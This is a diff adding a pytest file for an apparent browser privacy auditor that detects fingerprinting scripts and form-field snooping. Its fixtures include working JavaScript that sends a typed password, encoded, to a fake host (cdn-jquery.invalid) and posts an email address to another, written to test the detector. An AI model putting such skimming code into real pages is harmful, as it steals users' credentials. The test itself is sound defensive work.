@@ -1,0 +1,118 @@
+"""Scripts that pry, in real browsers: fingerprints and what only looks like one, and what is sent of what is typed."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
+
+import msgspec
+import pytest
+
+from auditor.config.devices import DEVICES
+from auditor.evidence.fingerprints import Fingerprints
+from auditor.evidence.requests import Requests
+from auditor.evidence.typed import Typed
+from auditor.model.snapshot import Client, SnapshotKey, State
+from auditor.render.browsers import Found
+from auditor.render.task import RenderResult, RenderSettings, RenderTask
+from auditor.render.worker import Renderer
+from tests.render.nasty import Shop
+
+Open = Callable[[str], RenderResult]
+TEXT = "Cwm fjordbank glyphs vext quiz"
+DRAW = f"const c = document.createElement('canvas'); const x = c.getContext('2d'); x.font = '14px Arial'; x.fillText('{TEXT}', 2, 15);"
+
+
+@pytest.fixture(scope="module")
+def visit(found: Found, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Open]:
+    with Shop() as shop, ThreadPoolExecutor(1) as thread:
+        settings = RenderSettings(
+            files=str(tmp_path_factory.mktemp("files")), site_hosts=(shop.host,), watch_ms=100, quiet_ms=100
+        )
+        renderer = thread.submit(Renderer, msgspec.msgpack.encode(settings)).result()
+
+        def one(html: str) -> RenderResult:
+            url = shop.put(html)
+            task = RenderTask(
+                key=SnapshotKey(url, Client(str(found.name), "desktop"), State()),
+                url=url,
+                device=DEVICES["desktop"],
+                collectors=frozenset({"requests", "fingerprints", "typed"}),
+            )
+            done = thread.submit(renderer.run, msgspec.msgpack.encode(task)).result()
+            return msgspec.msgpack.decode(done, type=RenderResult)
+
+        yield one
+        thread.submit(renderer.close).result()
+
+
+FINGERPRINTS = {
+    "canvas": f"{DRAW} c.toDataURL();",
+    "fonts": "const x = document.createElement('canvas').getContext('2d');"
+    "for (let i = 0; i < 60; i += 1) { x.font = '72px Font' + i; x.measureText('mmmmmmmmmmlli'); }",
+    "audio": "const a = new OfflineAudioContext(1, 5000, 44100); const o = a.createOscillator(); const d = a.createDynamicsCompressor();"
+    "o.connect(d); d.connect(a.destination); o.start(0); a.startRendering();",
+}
+NONE = {
+    "wp-emoji": "const x = document.createElement('canvas').getContext('2d', {willReadFrequently: true}); x.textBaseline = 'top'; x.font = '600 32px Arial';"
+    "for (const t of ['\\u{1F3F3}\\uFE0F\\u200D\\u26A7\\uFE0F', '\\u{1F1FA}\\u{1F1F3}', '\\u{1F426}\\u200D\\u2B1B']) { x.fillText(t, 0, 0); x.getImageData(0, 0, 300, 150); }",
+    "chart": f"{DRAW} document.body.append(c); c.toDataURL();",
+    "barcode": "const c = document.createElement('canvas'); const x = c.getContext('2d'); x.fillRect(0, 0, 2, 9); x.fillText('4006381333931', 0, 9); c.toDataURL();",
+    "personalised mug": f"{DRAW} x.drawImage(document.createElement('canvas').getContext('2d').canvas, 0, 0, 5, 5); c.toDataURL();",
+    "colour of a picture": "const x = document.createElement('canvas').getContext('2d'); x.fillRect(0, 0, 9, 9); x.getImageData(0, 0, 99, 99);",
+    "a few fonts": "const x = document.createElement('canvas').getContext('2d'); for (let i = 0; i < 500; i += 1) { x.font = (i % 400) + 'px Arial'; x.measureText('Add to cart'); }",
+}  # fmt: skip
+
+
+def test_fingerprints_are_noticed_and_what_only_looks_like_one_is_not(visit: Open) -> None:
+    script = "".join(
+        f"try {{ (() => {{ {one} }})() }} catch (error) {{ document.title = String(error) }}"
+        for one in [*FINGERPRINTS.values()]
+    )
+    seen = visit(f"<h1>Lamp</h1><script>{script}</script>").bundle.read(Fingerprints)
+    assert seen is not None
+    assert {one.how for one in seen.items} == set(FINGERPRINTS)
+    assert all(one.script.startswith("http") for one in seen.items)
+    script = "".join(f"(() => {{ {one} }})();" for one in NONE.values())
+    result = visit(
+        f"<h1>Lamp</h1><script>{script} document.title = 'done ' + HTMLCanvasElement.prototype.toDataURL</script>"
+    )
+    assert "native code" in result.html
+    assert result.bundle.read(Fingerprints) == Fingerprints()
+
+
+LOGIN = "<form action=/login method=post><input type=email name=email><input type=password name=pass><button>Log in</button></form><input name=q>"
+LISTENERS = """<script>
+  const [mail, pass] = document.querySelectorAll('form input');
+  pass.addEventListener('keyup', () => { clearTimeout(window.t); window.t = setTimeout(() => { new Image().src = 'https://cdn-jquery.invalid/g?d=' + btoa('p=' + pass.value + '&x'); }, 50); });
+  mail.addEventListener('change', () => fetch('https://api.stranger.invalid/check', {method: 'POST', mode: 'no-cors', body: JSON.stringify({mail: mail.value})}).catch(() => {}));
+  mail.addEventListener('blur', async () => {
+    const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(mail.value));
+    const hex = [...new Uint8Array(hash)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
+    fetch('https://www.google-analytics.com/g/collect?v=2&tid=G-ABC123DEF4&en=mail&ep.h=' + hex, {method: 'POST', mode: 'no-cors'}).catch(() => {});
+  });
+  addEventListener('keyup', () => fetch('/own?typed=' + pass.value).catch(() => {}));
+</script>"""
+
+
+def test_what_is_typed_and_not_submitted_is_found_in_what_others_are_sent(visit: Open) -> None:
+    result = visit(LOGIN + LISTENERS)
+    typed, requests = result.bundle.read(Typed), result.bundle.read(Requests)
+    assert typed is not None, result
+    assert requests is not None
+    assert set(typed.fields) == {"password", "email"}
+    assert {(one.url.split("/")[2], one.field, one.form) for one in typed.heard} >= {
+        ("cdn-jquery.invalid", "password", "encoded"),
+        ("www.google-analytics.com", "email", "hashed"),
+    }
+    told = {one.url.split("/")[2] for one in typed.heard} | set(typed.unread)
+    assert "api.stranger.invalid" in told
+    assert not [one.url for one in requests.items if "typed=" in one.url or "/g/collect" in one.url]
+    assert "4242" not in result.html
+
+
+def test_where_nothing_secret_is_typed_nothing_is_typed_at_all(visit: Open) -> None:
+    result = visit(
+        "<input type=email name=email><input name=q><input type=password style='display:none'>" + "<script>1</script>"
+    )
+    assert result.bundle.read(Typed) == Typed()
